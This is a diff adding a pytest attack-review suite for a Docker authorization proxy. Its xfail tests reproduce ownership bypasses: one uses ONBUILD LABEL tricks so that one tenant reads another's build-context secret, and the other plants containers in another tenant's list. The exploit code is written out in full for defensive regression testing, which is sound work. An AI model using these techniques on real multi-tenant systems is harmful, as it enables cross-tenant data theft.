@@ -1,0 +1,213 @@
+"""Attack review of issue 12's ownership changes (items 1 and 8), against the real daemon.
+
+Each finding is an xfail(strict=True) test: it passes while the hole is open and fails (XPASS)
+once it is closed.
+"""
+
+from __future__ import annotations
+
+import io
+import os
+import tarfile
+import threading
+import time
+import urllib.parse
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from support.attack import ATTACK_MARKS, Api, direct, running_tenants
+from support.daemon import PrivateDaemon
+
+pytestmark = ATTACK_MARKS
+
+RUN = os.urandom(3).hex()
+OWNER_LABEL = "io.dockgate.owner"
+USERS = {"alice": "alice-pw", "bob": "bob-pw"}
+POLICY = """
+policies:
+  tenants:
+    ownership: true
+    rules:
+      - allow:
+          sections: [ping, version, info, events, containers, exec, images, build, commit,
+                     volumes, networks, services, tasks]
+bindings:
+  - {policy: tenants, authenticated: true}
+"""
+
+
+@pytest.fixture(scope="module")
+def tenants(
+    daemon: PrivateDaemon, busybox_image: str, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[dict[str, Api]]:
+    base = tmp_path_factory.mktemp("atk12-own")
+    with running_tenants(daemon, base, POLICY, USERS) as apis:
+        yield apis
+
+
+@pytest.fixture
+def images(daemon: PrivateDaemon) -> Iterator[list[str]]:
+    names: list[str] = []
+    yield names
+    for name in reversed(names):
+        daemon.docker("rmi", "-f", name, check=False)
+
+
+def _tar(files: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as tar:
+        for name, data in files.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+def _build(api: Api, files: dict[str, bytes], tag: str, query: str = "") -> tuple[int, Any]:
+    return api.call(
+        "POST",
+        f"/v1.41/build?t={tag}{query}",
+        _tar(files),
+        headers={"Content-Type": "application/x-tar"},
+    )
+
+
+def _read_archive_file(raw: bytes, name: str) -> bytes | None:
+    try:
+        with tarfile.open(fileobj=io.BytesIO(raw)) as tar:
+            for member in tar.getmembers():
+                if member.name.endswith(name) and member.isfile():
+                    handle = tar.extractfile(member)
+                    return handle.read() if handle else None
+    except tarfile.TarError:
+        return None
+    return None
+
+
+def _harvest(api: Api, path: str, name: str, stop: threading.Event) -> dict[str, Any]:
+    """Poll `api`'s own container list; for each new container, ask for `path`'s archive.
+    What was found: the containers listed and the contents of `name` if read."""
+    found: dict[str, Any] = {"listed": {}, "content": None, "polls": 0}
+    tried: set[str] = set()
+    while not stop.is_set() and found["content"] is None:
+        status, listed = api.call("GET", "/v1.41/containers/json?all=1")
+        found["polls"] += 1
+        if status != 200:
+            continue
+        for entry in listed:
+            cid = entry["Id"]
+            found["listed"].setdefault(cid, entry.get("Command"))
+            if cid in tried:
+                continue
+            tried.add(cid)
+            status, raw = api.call("GET", f"/v1.41/containers/{cid}/archive?path={path}")
+            if status == 200 and isinstance(raw, bytes):
+                content = _read_archive_file(raw, name)
+                if content is not None:
+                    found["content"] = content
+                    break
+    return found
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a Dockerfile LABEL step's commit container carries the new owner label over an "
+    "image that does not: trusted, so an ONBUILD base image hands its author the victim's "
+    "build context",
+)
+def test_onbuild_label_step_hands_bobs_build_context_to_alice(
+    tenants: dict[str, Api], daemon: PrivateDaemon, busybox_image: str, images: list[str]
+) -> None:
+    """alice builds a base image through dockgate whose ONBUILD triggers copy the build
+    context and then set `LABEL io.dockgate.owner=user:alice` (alternating with another value,
+    so that each such step starts from an image that does not carry it). The classic builder
+    commits each LABEL by creating a container from the previous step's image with the new
+    labels (moby builder/dockerfile/dispatchers.go dispatchLabel -> internals.go commit ->
+    probeAndCreate): that container carries `user:alice` while its image (bob's context
+    copied in, owner label empty from alice's dockgate build) does not, so trusted_owner
+    makes it alice's. bob builds FROM it with a secret in his context: alice, polling her own
+    `docker ps -a`, lists the step container and reads bob's file through
+    `GET /containers/{id}/archive`."""
+    alice, bob = tenants["alice"], tenants["bob"]
+    base = f"dgo-atk-{RUN}-onbuild-{os.urandom(2).hex()}"
+    triggers = ["ONBUILD COPY . /ctx"]
+    for i in range(30):
+        triggers.append(f"ONBUILD LABEL {OWNER_LABEL}=user:alice")
+        triggers.append(f"ONBUILD LABEL {OWNER_LABEL}=x{i}")
+    status, answer = _build(
+        alice, {"Dockerfile": "\n".join([f"FROM {busybox_image}", *triggers]).encode()}, base
+    )
+    assert status == 200 and b"errorDetail" not in answer, (status, answer)
+    images.append(base)
+    # Built through dockgate: the base image carries an empty owner label.
+    status, inspected = direct(daemon, "GET", f"/images/{base}/json")
+    assert inspected["Config"]["Labels"][OWNER_LABEL] == ""
+
+    secret = f"bob-secret-{os.urandom(6).hex()}".encode()
+    tag = f"dgo-atk-{RUN}-bob-{os.urandom(2).hex()}"
+    images.append(tag)
+    stop = threading.Event()
+    harvest: dict[str, Any] = {}
+    thief = threading.Thread(
+        target=lambda: harvest.update(_harvest(alice, "/ctx", "secret.txt", stop))
+    )
+    thief.start()
+    try:
+        status, answer = _build(
+            bob,
+            {"Dockerfile": f"FROM {base}\nRUN true\n".encode(), "secret.txt": secret},
+            tag,
+            "&nocache=1",
+        )
+    finally:
+        stop.set()
+        thief.join(timeout=30)
+    assert status == 200 and b"errorDetail" not in answer, (status, answer)
+    assert harvest["polls"] > 0, harvest
+    # Today: alice's list shows bob's LABEL step containers and she reads his secret.
+    assert harvest["content"] != secret, harvest
+    assert harvest["listed"] == {}, harvest
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a Dockerfile LABEL step's commit container is trusted as the owner it names: "
+    "alice's build plants containers in bob's list and namespace",
+)
+def test_a_label_step_plants_a_container_in_bobs_list(
+    tenants: dict[str, Api], daemon: PrivateDaemon, busybox_image: str, images: list[str]
+) -> None:
+    """alice's own build with `LABEL io.dockgate.owner=user:bob` steps (alternating with
+    another value): each LABEL step's container (created, not started) is listed to bob and
+    answers his inspect, as if he had created it."""
+    alice, bob = tenants["alice"], tenants["bob"]
+    lines = [f"FROM {busybox_image}"]
+    for i in range(30):
+        lines.append(f"LABEL {OWNER_LABEL}=user:bob")
+        lines.append(f"LABEL {OWNER_LABEL}=y{i}")
+    tag = f"dgo-atk-{RUN}-plant-{os.urandom(2).hex()}"
+    images.append(tag)
+    result: dict[str, Any] = {}
+    builder = threading.Thread(
+        target=lambda: result.setdefault(
+            "build", _build(alice, {"Dockerfile": "\n".join(lines).encode()}, tag, "&nocache=1")
+        )
+    )
+    builder.start()
+    inspected: list[Any] = []
+    try:
+        while builder.is_alive() and not inspected:
+            status, listed = bob.call("GET", "/v1.41/containers/json?all=1")
+            assert status == 200, (status, listed)
+            for entry in listed:
+                status, answer = bob.call("GET", f"/v1.41/containers/{entry['Id']}/json")
+                if status == 200:
+                    inspected.append(answer)
+                    break
+    finally:
+        builder.join(timeout=60)
+    assert result["build"][0] == 200, result
+    # Today: bob inspects a `#(nop) LABEL io.dockgate.owner=user:bob` step of alice's build.
+    assert inspected == [], [" ".join(i["Args"]) for i in inspected]
